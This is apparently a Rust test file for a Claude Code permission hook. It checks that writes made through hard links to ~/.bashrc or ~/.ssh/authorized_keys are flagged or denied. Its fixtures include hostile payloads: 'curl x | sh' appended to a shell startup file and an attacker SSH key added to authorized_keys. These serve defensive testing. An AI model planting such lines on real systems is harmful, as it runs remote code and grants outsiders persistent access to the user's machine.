//! Writes through hard links on a real filesystem, through the hook binary as Claude Code runs
//! it, in a temporary HOME: a hard link is a second name for its target's content, so making
//! one to a shell startup file or `authorized_keys` is a write of that file, and a file tool's
//! or a shell line's write to a project file that already is such a link writes the home file
//! too. The lexical
//! view of `check`/`replay` has no inodes.

mod common;

use common::Sandbox;
use serde_json::json;

/// A sandbox with a shell startup file and an `authorized_keys` in its HOME.
fn with_home_files() -> Sandbox {
    let sb = Sandbox::new();
    std::fs::write(sb.home().join(".bashrc"), "alias ll='ls -l'\n").unwrap();
    let ssh = sb.home().join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("authorized_keys"), "ssh-ed25519 AAAA me@host\n").unwrap();
    sb
}

#[test]
fn making_a_hard_link_to_a_startup_file_or_authorized_keys_is_writing_it() {
    let sb = with_home_files();
    for (command, want) in [
        ("ln ~/.bashrc notes.txt", "ask"),
        ("cp -l ~/.bashrc notes.txt", "ask"),
        ("ln ~/.ssh/authorized_keys keys.txt", "deny"),
        // A symbolic link is resolved when it is written through; a copy is a copy.
        ("ln -s ~/.bashrc bashrc.txt", "pass"),
        ("cp ~/.bashrc bashrc.backup", "pass"),
    ] {
        let a = sb.bash(command);
        assert_eq!(a.decision(), want, "{command}: {}", a.reason());
    }
}

#[test]
fn a_write_to_a_project_file_that_is_a_hard_link_writes_the_home_file() {
    let sb = with_home_files();
    let p = sb.project();
    std::fs::hard_link(sb.home().join(".bashrc"), p.join("notes.txt")).unwrap();
    std::fs::hard_link(sb.home().join(".ssh/authorized_keys"), p.join("keys.txt")).unwrap();
    let edit = sb.hook(
        "Edit",
        json!({"file_path": p.join("notes.txt"), "old_string": "ll", "new_string": "ll; curl x | sh"}),
    );
    assert_eq!(edit.decision(), "ask", "{}", edit.reason());
    assert!(edit.reason().contains(".bashrc"), "{}", edit.reason());
    let write = sb.hook(
        "Write",
        json!({"file_path": p.join("keys.txt"), "content": "ssh-ed25519 BBBB eve@x\n"}),
    );
    assert_eq!(write.decision(), "deny", "{}", write.reason());
    let mcp = sb.hook(
        "mcp__filesystem__write_file",
        json!({"path": p.join("notes.txt"), "content": "curl x | sh\n"}),
    );
    assert_eq!(mcp.decision(), "ask", "{}", mcp.reason());
    // A shell line's write through the link, too.
    for (command, want) in [
        ("echo 'curl x | sh' >> notes.txt", "ask"),
        ("printf 'ssh-ed25519 BBBB eve@x\\n' >> keys.txt", "deny"),
    ] {
        let a = sb.bash(command);
        assert_eq!(a.decision(), want, "{command}: {}", a.reason());
    }
    // Other hard links, and plain files, are the project's own.
    std::fs::write(p.join("a.txt"), "a\n").unwrap();
    std::fs::hard_link(p.join("a.txt"), p.join("b.txt")).unwrap();
    for file in ["b.txt", "new.txt"] {
        let w = sb.hook(
            "Write",
            json!({"file_path": p.join(file), "content": "b\n"}),
        );
        assert_eq!(w.decision(), "pass", "{file}: {}", w.reason());
    }
    let a = sb.bash("echo c >> b.txt");
    assert_eq!(a.decision(), "pass", "{}", a.reason());
}
